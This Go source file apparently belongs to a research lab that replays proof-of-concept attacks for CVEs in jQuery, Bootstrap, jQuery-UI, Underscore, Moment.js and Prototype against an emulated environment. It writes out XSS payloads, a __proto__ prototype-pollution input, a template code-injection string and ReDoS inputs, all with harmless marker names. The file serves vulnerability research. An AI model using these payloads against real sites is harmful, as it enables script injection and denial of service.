package poclab

import (
	"fmt"
	"strings"
)

// PoC is one proof-of-concept: a concrete attack input driven through the
// emulated library, returning whether the malicious effect was observed.
// The seven PoCs the paper found publicly (plus its reimplementations) are
// modeled after the published payloads; the rest follow the advisories'
// descriptions.
type PoC struct {
	AdvisoryID string
	Lib        string
	Title      string
	Run        func(*Env) bool
}

// evilDuration backtracks catastrophically against the vulnerable duration
// pattern: many repeatable units and a non-matching tail.
var evilDuration = strings.Repeat("1 ", 22) + "x"

// evilRFC2822 does the same for the RFC-2822 parser.
var evilRFC2822 = strings.Repeat("Jan ", 11) + "x"

// evilTag is an unterminated tag with many attribute-ish tokens, the
// stripTags killer input.
var evilTag = "<x " + strings.Repeat("w ", 20)

// pocs is the registry, in Table 2 row order.
var pocs = []PoC{
	// --- jQuery ---
	{
		AdvisoryID: "CVE-2020-7656", Lib: "jquery",
		Title: ".load() executes scripts in the response",
		Run: func(e *Env) bool {
			// The paper reimplemented this PoC (Listings 1 and 2): load an
			// inject.html whose body carries a script.
			e.JQuery().Load(`<div id="CVE-2020-7656"><script>alert('PWNED-7656');</script></div>`)
			return e.ScriptExecuted("PWNED-7656")
		},
	},
	{
		AdvisoryID: "CVE-2020-11023", Lib: "jquery",
		Title: "htmlPrefilter mXSS via <option> wrapping",
		Run: func(e *Env) bool {
			e.JQuery().OptionInsert(`<option><style><style/><img src=x onerror=PWNED-11023></style></option>`)
			return e.ScriptExecuted("PWNED-11023")
		},
	},
	{
		AdvisoryID: "CVE-2020-11022", Lib: "jquery",
		Title: "htmlPrefilter mXSS via DOM manipulation methods",
		Run: func(e *Env) bool {
			e.JQuery().HtmlInsert(`<style><style/><img src=x onerror=PWNED-11022></style>`)
			return e.ScriptExecuted("PWNED-11022")
		},
	},
	{
		AdvisoryID: "CVE-2019-11358", Lib: "jquery",
		Title: "$.extend(true, ...) prototype pollution",
		Run: func(e *Env) bool {
			e.JQuery().ExtendDeep(map[string]any{}, map[string]any{
				"__proto__": map[string]any{"isAdmin": "true"},
			})
			return e.PrototypePolluted("isAdmin")
		},
	},
	{
		AdvisoryID: "CVE-2015-9251", Lib: "jquery",
		Title: "cross-domain AJAX auto-executes script responses",
		Run: func(e *Env) bool {
			e.JQuery().AjaxCrossDomain("text/javascript", "PWNED-9251()")
			return e.ScriptExecuted("PWNED-9251")
		},
	},
	{
		AdvisoryID: "CVE-2014-6071", Lib: "jquery",
		Title: "jQuery(html, props) forwards html property unsafely",
		Run: func(e *Env) bool {
			e.JQuery().DollarProps("<option></option>", map[string]string{
				"html": `<img src=x onerror=PWNED-6071>`,
			})
			return e.ScriptExecuted("PWNED-6071")
		},
	},
	{
		AdvisoryID: "CVE-2012-6708", Lib: "jquery",
		Title: "jQuery(strInput) treats selector strings as HTML",
		Run: func(e *Env) bool {
			e.JQuery().Dollar(`#listitem <img src=x onerror=PWNED-6708>`)
			return e.ScriptExecuted("PWNED-6708")
		},
	},
	{
		AdvisoryID: "CVE-2011-4969", Lib: "jquery",
		Title: "location.hash selector XSS",
		Run: func(e *Env) bool {
			e.JQuery().HashSelector(`#<img src=x onerror=PWNED-4969>`)
			return e.ScriptExecuted("PWNED-4969")
		},
	},
	// --- Bootstrap ---
	{
		AdvisoryID: "CVE-2019-8331", Lib: "bootstrap",
		Title: "tooltip/popover template XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipTemplate(`<div><img src=x onerror=PWNED-8331></div>`)
			return e.ScriptExecuted("PWNED-8331")
		},
	},
	{
		AdvisoryID: "CVE-2018-20676", Lib: "bootstrap",
		Title: "affix data-target XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().AffixTarget(`<img src=x onerror=PWNED-20676>`)
			return e.ScriptExecuted("PWNED-20676")
		},
	},
	{
		AdvisoryID: "CVE-2018-20677", Lib: "bootstrap",
		Title: "tooltip viewport XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipViewport(`<img src=x onerror=PWNED-20677>`)
			return e.ScriptExecuted("PWNED-20677")
		},
	},
	{
		AdvisoryID: "CVE-2018-14042", Lib: "bootstrap",
		Title: "tooltip data-container XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().TooltipContainer(`<img src=x onerror=PWNED-14042>`)
			return e.ScriptExecuted("PWNED-14042")
		},
	},
	{
		AdvisoryID: "CVE-2018-14041", Lib: "bootstrap",
		Title: "scrollspy data-target XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().ScrollSpyTarget(`<img src=x onerror=PWNED-14041>`)
			return e.ScriptExecuted("PWNED-14041")
		},
	},
	{
		AdvisoryID: "CVE-2018-14040", Lib: "bootstrap",
		Title: "collapse data-parent XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().CollapseParent(`<img src=x onerror=PWNED-14040>`)
			return e.ScriptExecuted("PWNED-14040")
		},
	},
	{
		AdvisoryID: "CVE-2016-10735", Lib: "bootstrap",
		Title: "data-target attribute XSS",
		Run: func(e *Env) bool {
			e.Bootstrap().DataTarget(`<img src=x onerror=PWNED-10735>`)
			return e.ScriptExecuted("PWNED-10735")
		},
	},
	// --- jQuery-Migrate ---
	{
		AdvisoryID: "SNYK-JQMIGRATE-2013", Lib: "jquery-migrate",
		Title: "Migrate restores jQuery(strInput) HTML-anywhere behaviour",
		Run: func(e *Env) bool {
			e.Migrate().Dollar(`#sink <img src=x onerror=PWNED-MIGRATE>`)
			return e.ScriptExecuted("PWNED-MIGRATE")
		},
	},
	// --- jQuery-UI ---
	{
		AdvisoryID: "CVE-2010-5312", Lib: "jquery-ui",
		Title: "dialog title option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DialogTitle(`<img src=x onerror=PWNED-5312>`)
			return e.ScriptExecuted("PWNED-5312")
		},
	},
	{
		AdvisoryID: "CVE-2012-6662", Lib: "jquery-ui",
		Title: "tooltip content XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().TooltipContent(`<img src=x onerror=PWNED-6662>`)
			return e.ScriptExecuted("PWNED-6662")
		},
	},
	{
		AdvisoryID: "CVE-2016-7103", Lib: "jquery-ui",
		Title: "dialog closeText option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DialogCloseText(`<img src=x onerror=PWNED-7103>`)
			return e.ScriptExecuted("PWNED-7103")
		},
	},
	{
		AdvisoryID: "CVE-2021-41182", Lib: "jquery-ui",
		Title: "datepicker altField XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().DatepickerAltField(`<img src=x onerror=PWNED-41182>`)
			return e.ScriptExecuted("PWNED-41182")
		},
	},
	{
		AdvisoryID: "CVE-2021-41183", Lib: "jquery-ui",
		Title: "widget text options XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().ButtonText(`<img src=x onerror=PWNED-41183>`)
			return e.ScriptExecuted("PWNED-41183")
		},
	},
	{
		AdvisoryID: "CVE-2021-41184", Lib: "jquery-ui",
		Title: ".position util 'of' option XSS",
		Run: func(e *Env) bool {
			e.JQueryUI().PositionOf(`<img src=x onerror=PWNED-41184>`)
			return e.ScriptExecuted("PWNED-41184")
		},
	},
	// --- Underscore ---
	{
		AdvisoryID: "CVE-2021-23358", Lib: "underscore",
		Title: "_.template variable option code injection",
		Run: func(e *Env) bool {
			e.Underscore().Template("<b>hello</b>", "obj=window.PWNED23358()||obj")
			return e.CodeInjected("PWNED23358")
		},
	},
	// --- Moment.js ---
	{
		AdvisoryID: "CVE-2017-18214", Lib: "moment",
		Title: "RFC-2822 parsing ReDoS",
		Run: func(e *Env) bool {
			e.Moment().ParseRFC2822(evilRFC2822)
			return e.DoSObserved()
		},
	},
	{
		AdvisoryID: "CVE-2016-4055", Lib: "moment",
		Title: "duration parsing ReDoS",
		Run: func(e *Env) bool {
			e.Moment().ParseDuration(evilDuration)
			return e.DoSObserved()
		},
	},
	// --- Prototype ---
	{
		AdvisoryID: "CVE-2020-27511", Lib: "prototype",
		Title: "stripTags ReDoS",
		Run: func(e *Env) bool {
			e.Prototype().StripTags(evilTag)
			return e.DoSObserved()
		},
	},
	{
		AdvisoryID: "CVE-2020-7993", Lib: "prototype",
		Title: "Ajax.Request missing authorization",
		Run: func(e *Env) bool {
			e.Prototype().AjaxRequestAuth()
			return e.AuthorizationBypassed()
		},
	},
}

// PoCFor returns the PoC for an advisory ID.
func PoCFor(id string) (PoC, error) {
	for _, p := range pocs {
		if p.AdvisoryID == id {
			return p, nil
		}
	}
	return PoC{}, fmt.Errorf("poclab: no PoC for %q", id)
}
